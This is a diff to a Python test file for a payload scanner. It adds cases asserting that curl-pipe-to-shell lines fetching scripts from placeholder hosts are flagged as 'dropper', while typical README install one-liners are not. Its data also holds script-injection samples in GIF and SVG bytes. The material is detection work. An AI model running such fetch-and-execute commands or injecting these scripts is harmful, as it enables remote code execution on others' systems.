@@ -201,12 +201,28 @@ def archive(name: str, data: bytes = b"x") -> bytes:
         (b"\x89PNG\r\n\x1a\n" + bytes(64) + archive("a"), "polyglot"),
         (b"GIF89a" + b"<script>alert(1)</script>", "polyglot"),
         (b"<svg xmlns='x'><script>alert(1)</script></svg>", "document-active-svg"),
-        (b"run: curl -s https://x.example/i.sh | sudo bash", "dropper"),
+        (b"curl -s https://x.example/i.sh | sudo bash", "dropper"),
+        (b"Run: curl -s http://x.example/i.sh | sh\n", "dropper"),
+        (b"# Install\n\ncurl https://203.0.113.7/i.sh | sh\n", "dropper"),
+        (b"#!/bin/sh\n# Install it\ncurl https://x.example/i.sh | sh\n", "dropper"),
+        (b"curl https://x.example/i.sh | sh\n", "dropper"),
         (b"PK\x03\x04 and nothing else", "archive-broken"),
     ],
 )
 def test_a_payload_is_named(searcher: Searcher, data: bytes, rule: str) -> None:
     assert rule in rules(searcher, data)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"# Install\n\n```\ncurl -fsSL https://get.tool.example/i.sh | sh\n```\n",
+        b"Tool\n====\n\n    $ curl https://get.tool.example/i.sh | sudo bash -s -- -y\n",
+        b"Install it with: curl -fsSL https://get.tool.example/install.sh | sh\n",
+    ],
+)
+def test_how_a_program_is_installed_is_no_payload(searcher: Searcher, data: bytes) -> None:
+    assert rules(searcher, data) == set()
 
 
 @pytest.mark.parametrize(
